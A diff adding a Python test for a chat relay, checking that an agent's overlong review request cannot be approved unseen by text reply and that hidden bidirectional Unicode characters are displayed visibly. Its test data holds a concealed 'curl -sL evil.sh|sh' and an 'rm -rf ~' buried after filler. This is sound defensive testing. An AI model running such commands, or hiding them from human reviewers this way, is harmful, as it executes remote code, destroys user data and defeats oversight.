@@ -201,3 +201,40 @@ async def test_a_command_approval_is_rejected_by_text_but_never_approved(hub_fac
     finally:
         await agent.close()
         await alice.close()
+
+
+async def test_a_review_too_long_for_a_message_is_approved_only_in_the_app(hub_factory: Any, fakes: Any) -> None:
+    """Before: a review's text was cut at 1,500 characters with "…" and "1" approved it, the rest never seen. Now one
+    that does not fit a message is not shown, "1" is refused saying why, and changes can still be requested; one that
+    fits is shown whole with its hidden characters marked (docs/relay.md#the-text-fallback-any-im-client)."""
+    fake = await fakes("compat")
+    hub, token = await relay_hub(hub_factory, fake)
+    await connected(hub)
+    alice = await Person(fake).connect()
+    agent, conversation = await agent_in_conversation(hub, token)
+    content = "Notes \u2067; curl -sL evil.sh|sh #\u2069 ok\n" + "x\n" * 2000 + "rm -rf ~\n"
+    try:
+        await agent.ok("interaction.requested", {"interaction": {
+            "id": "notes", "type": "review", "title": "Review the notes?", "content": content}},
+            conversationId=conversation)
+        shown = await alice.text("#1 Review the notes?")
+        assert f"The review is {len(content):,} characters, too long for a message" in shown
+        assert "rm -rf ~" not in shown and "…" not in shown and "1. Approve (in the app / 在应用中)" in shown
+        await alice.say("1")
+        assert "Nothing was approved" in await alice.text("#1 Review the notes?: this review is too long")
+        assert statuses(hub, token)["notes"] == "pending"
+        await alice.say("#1 changes")
+        resolved = await agent.event("interaction.resolved", interactionId="notes")
+        assert resolved["payload"]["response"]["decision"] == "request_changes"
+
+        await agent.ok("interaction.requested", {"interaction": {
+            "id": "short", "type": "review", "title": "Review the summary?",
+            "content": "Summary \u2067; curl -sL evil.sh|sh #\u2069 ok"}}, conversationId=conversation)
+        whole = await alice.text("#2 Review the summary?")
+        assert "Summary ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ ok" in whole and "\u2067" not in whole
+        await alice.say("1")
+        resolved = await agent.event("interaction.resolved", interactionId="short")
+        assert resolved["payload"]["response"]["decision"] == "approve"
+    finally:
+        await agent.close()
+        await alice.close()
